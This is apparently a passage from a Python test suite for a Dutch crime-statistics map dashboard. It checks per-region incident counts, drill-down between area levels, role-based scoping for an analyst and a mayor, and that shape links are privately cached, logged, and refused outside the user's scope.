    assert response.status_code == 200
    assert "coordinates" not in response.text and "geen toegang" in response.text.lower()
    last = state_rows(demo_db, "SELECT user, view, outcome FROM protocol_log ORDER BY id DESC"
                               " LIMIT 1")
    assert last == [("burgemeester", "kaart/punten", "refused")]


# -- regionale eenheid and buurten without a gemeente ----------------------------------------------

def _eenheid(con):
    return con.execute("SELECT code, name FROM areas WHERE level = 'eenheid'").fetchall()[0]


def test_eenheid_values_are_sums_of_the_gemeenten_in_scope(con):
    period = last_complete_months(con, scope=UNIT)
    code, name = _eenheid(con)
    frame = q.map_values(con, scope=UNIT, level="eenheid", period=period,
                         group="alle_misdrijven", measure="per_1000")
    assert frame["code"].tolist() == [code] and frame["name"].tolist() == [name]
    expected = con.execute(
        "SELECT count(*) FROM incidents WHERE occurred_date >= ? AND occurred_date < ?"
        " AND type_code IN (SELECT type_code FROM type_groups WHERE group_code = ?)",
        [period.start, period.end, "alle_misdrijven"]).fetchall()[0][0]
    assert frame["count"].iloc[0] == expected
    # Only the gemeenten in scope count: for a mayor the eenheid holds Havenstad alone.
    mayor = q.map_values(con, scope=MAYOR, level="eenheid", period=period,
                         group="alle_misdrijven", measure="count")
    assert mayor["count"].iloc[0] == _count(con, period, "alle_misdrijven", "gm_code", "GMD001")
    shapes = json.loads(q.geometry(con, scope=UNIT, level="eenheid"))
    assert [f["id"] for f in shapes["features"]] == [code]
    # An eenheid narrows the gemeente layer; an unknown one is refused like any other area.
    inside = q.map_values(con, scope=UNIT, level="gemeente", period=period,
                          group="alle_misdrijven", measure="count", eenheid=code)
    assert sorted(inside["code"]) == sorted(UNIT.gemeenten)
    with pytest.raises(OutOfScope):
        q.geometry(con, scope=UNIT, level="gemeente", eenheid="RE01")
    assert q.area(con, scope=MAYOR, code=code)["level"] == "eenheid"


def test_buurt_layer_without_a_gemeente(con):
    period = last_complete_months(con, scope=UNIT)
    code, _name = _eenheid(con)
    buurten = con.execute("SELECT count(*) FROM areas WHERE level = 'buurt'").fetchall()[0][0]
    for eenheid in (None, code):
        frame = q.map_values(con, scope=UNIT, level="buurt", period=period,
                             group="alle_misdrijven", measure="count", eenheid=eenheid)
        assert len(frame) == buurten and frame["count"].notna().all()
        shapes = json.loads(q.geometry(con, scope=UNIT, level="buurt", eenheid=eenheid))
        assert len(shapes["features"]) == buurten
    row = frame.iloc[0]
    assert row["count"] == _count(con, period, "alle_misdrijven", "bu_code", row["code"])


@pytest.mark.browser
def test_analist_sees_the_eenheid_and_drills_to_its_gemeenten(page, demo_server, con):
    period = last_complete_months(con, scope=UNIT)
    code, name = _eenheid(con)
    login(page, demo_server, "analist")
    page.goto(demo_server.url + "/kaart?niveau=eenheid")
    _wait_for_panel(page, "Regionale eenheden")
    expect(page.locator(CHOROPLETH)).to_have_count(1, timeout=20_000)
    expected = con.execute(
        "SELECT count(*) FROM incidents WHERE gm_code IN (SELECT code FROM areas"
        " WHERE level = 'gemeente' AND re_code = ?) AND occurred_date >= ? AND occurred_date < ?"
        " AND type_code IN (SELECT type_code FROM type_groups WHERE group_code = ?)",
        [code, period.start, period.end, "alle_misdrijven"]).fetchall()[0][0]
    text = _tooltip(page, lambda: page.locator(f"path.vb-area-{code}").dispatch_event("mouseover"),
                    f"({code})")
    assert f"Aantal: {expected:,}".replace(",", ".") in text
    page.locator(f"path.vb-area-{code}").dispatch_event("click")
    gemeenten = con.execute("SELECT count(*) FROM areas WHERE level = 'gemeente'"
                            " AND re_code = ?", [code]).fetchall()[0][0]
    _wait_for_panel(page, f"Gemeenten in {name}")
    expect(page.locator(CHOROPLETH)).to_have_count(gemeenten, timeout=20_000)
    assert _search(page)["niveau"] == "gemeente" and _search(page)["gebied"] == code
    expect(page.locator("#kaart-breadcrumb")).to_contain_text(name)
    page.locator("#kaart-breadcrumb a", has_text="Eenheden").click()
    expect(page.locator(CHOROPLETH)).to_have_count(1, timeout=20_000)


@pytest.mark.browser
def test_analist_sees_all_buurten_and_a_mayor_gets_no_eenheid_level(page, demo_server, con):
    code, _name = _eenheid(con)
    buurten = con.execute("SELECT count(*) FROM areas WHERE level = 'buurt'").fetchall()[0][0]
    login(page, demo_server, "analist")
    page.goto(f"{demo_server.url}/kaart?niveau=buurt&gebied={code}")
    expect(page.locator("#kaart-panel .kaart-table")).to_be_visible(timeout=40_000)
    expect(page.locator(CHOROPLETH)).to_have_count(buurten, timeout=30_000)
    # The panel lists the highest 100 (callbacks/kaart_values.PANEL_ROWS); the CSV all.
    assert page.locator("#kaart-panel tbody tr").count() == min(buurten, 100)
    if buurten > 100:
        expect(page.locator("#kaart-panel")).to_contain_text(
            f"De 100 hoogste van {buurten} gebieden")
    assert _search(page)["gebied"] == code
    # Wijken and PC4 too cover the whole scope for an analist, ranked within their gemeente.
    wijken = con.execute("SELECT count(*) FROM areas WHERE level = 'wijk'").fetchall()[0][0]
    page.goto(f"{demo_server.url}/kaart?niveau=wijk")
    _wait_for_panel(page, "Totaal uw gebied")
    expect(page.locator(CHOROPLETH)).to_have_count(wijken, timeout=30_000)
    expect(page.locator("#kaart-breadcrumb")).to_contain_text("Wijken")
    pc4 = con.execute("SELECT count(*) FROM areas WHERE level = 'pc4'").fetchall()[0][0]
    page.goto(f"{demo_server.url}/kaart?niveau=pc4&gebied={code}")
    _wait_for_panel(page, "Postcode (PC4)")
    expect(page.locator(CHOROPLETH)).to_have_count(pc4, timeout=30_000)
    page.goto(f"{demo_server.url}/kaart?niveau=buurt")
    expect(page.locator("#kaart-panel .kaart-table")).to_be_visible(timeout=40_000)
    expect(page.locator(CHOROPLETH)).to_have_count(buurten, timeout=30_000)
    assert "gebied" not in _search(page)

    page.context.clear_cookies()
    login(page, demo_server, "burgemeester")
    page.goto(demo_server.url + "/kaart?niveau=eenheid")  # not offered: the mayor's home
    _wait_for_panel(page, "Wijken in Havenstad")
    assert _search(page)["niveau"] == "wijk"
    page.locator("#kaart-niveau").click()
    options = choices(page)
    expect(options.first).to_be_visible(timeout=10_000)
    labels = options.all_inner_texts()
    assert "Wijken" in labels and "Regionale eenheden" not in labels, labels
    assert "Postcode (PC4)" in labels and "Postcode (PC6)" not in labels, labels
    # A link to the PC6 level opens the mayor's home (the wijken) for a detail-1 mayor.
    page.goto(demo_server.url + "/kaart?niveau=pc6&gebied=GMD001")
    _wait_for_panel(page, "Wijken in Havenstad")
    assert _search(page)["niveau"] == "wijk"


# -- shapes from a link ---------------------------------------------------------------------------

def _protocol(demo_db, since: int) -> list[tuple]:
    return state_rows(demo_db, "SELECT user, view, outcome, rows, filters FROM protocol_log"
                               " WHERE id > ? ORDER BY id", [since])


def _last_protocol_id(demo_db) -> int:
    return state_rows(demo_db, "SELECT coalesce(max(id), 0) FROM protocol_log")[0][0]


@pytest.mark.browser
def test_shapes_come_from_a_cacheable_link_bound_to_the_scope(page, browser, demo_server,
                                                               demo_db, con):
    """The map layers fetch their shapes from /kaart/geometrie.json: compressed, cacheable in
    this browser only, one protocol row each, and refused for a link made for another scope or
    an area outside the scope."""
    links = []
    page.on("request", lambda r: links.append(r.url) if "/kaart/geometrie.json" in r.url else None)
    login(page, demo_server, "burgemeester")
    before = _last_protocol_id(demo_db)
    page.goto(demo_server.url + "/kaart?niveau=wijk&gebied=GMD001")
    _wait_for_panel(page, "Wijken in")
    wijken = con.execute("SELECT count(*) FROM areas WHERE level = 'wijk'"
                         " AND gm_code = 'GMD001'").fetchall()[0][0]
    expect(page.locator(CHOROPLETH)).to_have_count(wijken, timeout=20_000)
    wijk_link = next(u for u in links if "niveau=wijk" in u)
    outline_link = next(u for u in links if "niveau=gemeente" in u)
    logged = [r for r in _protocol(demo_db, before) if r[1] == "kaart/geometrie"]
    assert sorted((r[0], r[2], r[3]) for r in logged) == [
        ("burgemeester", "ok", 1), ("burgemeester", "ok", wijken)]  # outline: one gemeente

    # A second visit draws from the browser cache: no request, so no new protocol row.
    before = _last_protocol_id(demo_db)
    page.goto(demo_server.url + "/kaart?niveau=buurt&gebied=GMD001")
    _wait_for_panel(page, "Buurten in")
    page.goto(demo_server.url + "/kaart?niveau=wijk&gebied=GMD001")
    _wait_for_panel(page, "Wijken in")
    expect(page.locator(CHOROPLETH)).to_have_count(wijken, timeout=20_000)
    assert [r[3] for r in _protocol(demo_db, before) if r[1] == "kaart/geometrie"] == [
        con.execute("SELECT count(*) FROM areas WHERE level = 'buurt'"
                    " AND gm_code = 'GMD001'").fetchall()[0][0]]  # only the new buurt layer

    response = page.request.get(wijk_link, headers={"Accept-Encoding": "gzip"})
    assert response.status == 200
    assert response.headers["cache-control"] == "private, max-age=86400"
    assert "cookie" not in response.headers.get("vary", "").lower()
    assert response.headers["content-encoding"] == "gzip"
    shapes = response.json()
    assert len(shapes["features"]) == wijken
    assert {f["id"] for f in shapes["features"]} == {r[0] for r in con.execute(
        "SELECT code FROM areas WHERE level = 'wijk' AND gm_code = 'GMD001'").fetchall()}

    # The mayor's link with another gemeente is refused and logged; so is the mayor's link
    # opened by another user (another scope), even for the same area.
    other = wijk_link.replace("gebied=GMD001", "gebied=GMD002")
    before = _last_protocol_id(demo_db)
    refused = page.request.get(other)
    assert refused.status == 403 and refused.json()["features"] == []
    analist = browser.new_context()
    try:
        second = analist.new_page()
        login(second, demo_server, "analist")
        assert second.request.get(outline_link).status == 403
    finally:
        analist.close()
    assert [(r[0], r[2]) for r in _protocol(demo_db, before) if r[1] == "kaart/geometrie"] == [
        ("burgemeester", "refused"), ("analist", "refused")]  # (the analist's home page logs too)
